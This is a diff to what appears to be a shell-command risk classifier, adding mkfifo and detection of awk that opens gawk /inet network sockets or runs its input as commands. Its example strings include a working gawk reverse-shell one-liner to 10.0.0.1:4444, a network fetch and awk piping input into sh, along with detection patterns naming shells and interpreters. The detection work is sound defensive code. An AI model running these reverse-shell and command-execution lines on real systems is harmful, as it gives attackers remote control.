@@ -205,6 +205,12 @@ MKDIR = Program(
     on=(On("create", OPERANDS, id="mkdir.creates", examples=("mkdir -p build",)),),
     examples={"mkdir -p build": "low"},
 )
+MKFIFO = Program(
+    "mkfifo", doc="creates named pipes (what runs through one is the line's business: policy/line.py)",
+    grammar=Grammar(values="mZ", long_values=("mode", "context")),
+    on=(On("create", OPERANDS, id="mkfifo.creates", examples=("mkfifo /tmp/f",)),),
+    examples={"mkfifo /tmp/f": "low"},
+)
 
 # ---------------------------------------------------------------- modes and owners
 
@@ -425,7 +431,11 @@ _AWK_CODE = lazy_re(r"\bsystem\s*\(|\|\s*&|\|\s*getline|@load|\benviron\b", re.I
 @emits({"awk.loads": ["awk -l ./ext.so '{print}' f"], "awk.runtime-program": ['awk "$P" f'],
         "awk.pipes": ["awk '{print | \"sh\"}' f"], "awk.writes-runtime": ["awk '{print > $2}' f"],
         "awk.writes": ["awk '{print > \"out.txt\"}' f"], "awk.runs": ["awk 'BEGIN{system(\"id\")}'"],
-        "awk.program-file": ["awk -f prog.awk f"], "awk.in-place": ["gawk -i inplace '{print}' f"]})
+        "awk.program-file": ["awk -f prog.awk f"], "awk.in-place": ["gawk -i inplace '{print}' f"],
+        "awk.network": ["gawk 'BEGIN{s=\"/inet/tcp/0/x.example/80\"; print \"GET /\" |& s; s |& getline l; print l}'"],
+        "awk.reverse-shell": ["gawk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";for(;s|&getline c;close(c))"
+                              "while(c|getline)print|&s;close(s)}'"],
+        "awk.runs-input": ["awk '{system($0)}'", "awk '{print | \"sh\"}' f", "awk '{ $0 | getline x }'"]})
 def awk_program(cmd, o) -> None:
     """The program (first operand, or -f FILE) says what awk writes, pipes into or runs."""
     operands = list(o.operands)
@@ -444,8 +454,17 @@ def awk_program(cmd, o) -> None:
         program = operands.pop(0)
         if UNKNOWN in program:
             cmd.does("run-code", "awk.runtime-program", "awk program known only at run time")
-        else:
-            _awk_effects(cmd, program)
+        elif "/inet" in program and _awk_network(cmd, program):
+            pass
+        elif _awk_effects(cmd, program):
+            # `curl … | awk '{system($0)}'`: an interpreter of what it reads, its input or its files
+            files = [w for w in operands if "=" not in w and w != "-"]
+            cmd.fired.add("awk.runs-input")
+            if files and not edits:
+                for word in files:
+                    cmd.facts.runs.append(cmd.place(word).path)
+            else:
+                cmd.facts.stdin_interp = True
     for word in operands:
         if "=" not in word:
             if edits:
@@ -455,7 +474,53 @@ def awk_program(cmd, o) -> None:
                 cmd.read(word)
 
 
-def _awk_effects(cmd, program: str) -> None:
+# What makes awk an interpreter of its input: a command built from what it reads (`system($0)`, `system("x " $1)`,
+# `$0 | getline`), or its input printed into a shell or interpreter (`print | "sh"`, `print |& "bash"`).
+_AWK_LITERAL_SYSTEM = lazy_re(r'\s*"(?:\\.|[^"\\])*"\s*\)')
+_AWK_INTERPRETERS = lazy_re(r'^"\s*(?:/\S*/)?(?:sh|bash|zsh|dash|ksh|ash|mksh|busybox\s+sh|python[0-9.]*|perl|ruby|node'
+                            r'|php|lua|tclsh|xargs|env|sudo|su)\b')
+
+
+def _awk_runs_input(program: str) -> bool:
+    """Whether the awk program runs text from its input as commands (GTFOBins: awk's system and pipes)."""
+    for m in re.finditer(r"\bsystem\s*\(", program):
+        if not _AWK_LITERAL_SYSTEM.match(program, m.end()):
+            return True         # system(EXPR): a command made of what it reads (or of variables)
+    for m in _AWK_REDIRECT.finditer(program):
+        if m.group(1).startswith("|") and (not m.group(2).startswith('"') or _AWK_INTERPRETERS.match(m.group(2))):
+            return True         # print | "sh": what it prints is the shell's input
+    code = _AWK_STRING.sub('""', program)
+    # `CMD | getline`: a command made of what it reads (`$0 | getline`), not a literal one (`"date" | getline`)
+    return any(not code[:m.start()].rstrip().endswith('""') for m in re.finditer(r"\|&?\s*getline", code))
+
+
+_AWK_INET = lazy_re(r'"/inet[46]?/(?:tcp|udp)/')
+
+
+def _awk_network(cmd, program: str) -> bool:
+    """gawk's special files `/inet/tcp/LPORT/HOST/RPORT`: a network connection it reads and prints to; running
+    commands read from it is GTFOBins' awk reverse shell. True when it opens one."""
+    if not _AWK_INET.search(program):
+        return False
+    _awk_effects(cmd, program)         # what it writes to files
+    facts = cmd.facts
+    facts.net_send = facts.net_fetch = True
+    sockets = set(re.findall(r'([A-Za-z_]\w*)\s*=\s*"/inet', program))
+    code = _AWK_STRING.sub('""', program)
+    # a command that is neither a literal nor the socket: `c | getline`, `c |& getline`, `system(c)`, `print | c`
+    commands = re.findall(r"([A-Za-z_]\w*|\$\w+|\))\s*\|&?\s*getline|\bsystem\s*\(\s*([^\s\")][^)]*)|"
+                          r"\bprintf?\b[^;}]*?\|&?\s*([A-Za-z_]\w*|\$\w+)", code)
+    runs = any(word and word not in sockets for found in commands for word in found)
+    if runs:
+        cmd.does("backdoor", "awk.reverse-shell", f"{cmd.name} runs commands it reads from a network connection "
+                                                  "(/inet/…: a reverse shell)")
+    else:
+        cmd.does("expose", "awk.network", f"{cmd.name} opens a network connection (/inet/…)")
+    return True
+
+
+def _awk_effects(cmd, program: str) -> bool:
+    """What the program writes, pipes into and runs. True when it runs what it reads as commands."""
     for m in _AWK_REDIRECT.finditer(program):
         op, target = m.group(1), m.group(2)
         if op.startswith("|"):
@@ -466,8 +531,10 @@ def _awk_effects(cmd, program: str) -> None:
         else:
             cmd.does("run-code", "awk.writes-runtime", "awk program writes to a file named at run time")
     code = _AWK_STRING.sub('""', program)       # text inside strings is data
-    if _AWK_CODE.search(code) or re.search(r'""\s*\|', code):
+    runs = _AWK_CODE.search(code) or re.search(r'""\s*\|', code)
+    if runs:
         cmd.does("run-code", "awk.runs", "awk program runs commands")
+    return bool(runs or "|" in program) and _awk_runs_input(program)
 
 
 AWK = Program(
@@ -903,7 +970,7 @@ def _normalize(path: str) -> str:
 
 
 PROGRAMS = programs(
-    RM, RMDIR, CP, MV, LN, INSTALL, DD, SHRED, TRUNCATE, SPONGE, TEE, TOUCH, MKDIR, CHMOD, CHOWN, CHATTR, SORT,
+    RM, RMDIR, CP, MV, LN, INSTALL, DD, SHRED, TRUNCATE, SPONGE, TEE, TOUCH, MKDIR, MKFIFO, CHMOD, CHOWN, CHATTR, SORT,
     UNIQ, SED, AWK, FIND, TAR, ZIP, UNZIP, SEVENZIP, XXD, BASE64, *COMPRESSORS, *READER_PROGRAMS, *NAMER_PROGRAMS,
     *SEARCHER_PROGRAMS, JQ, YQ, PATCH, SPLIT, CSPLIT,
 )
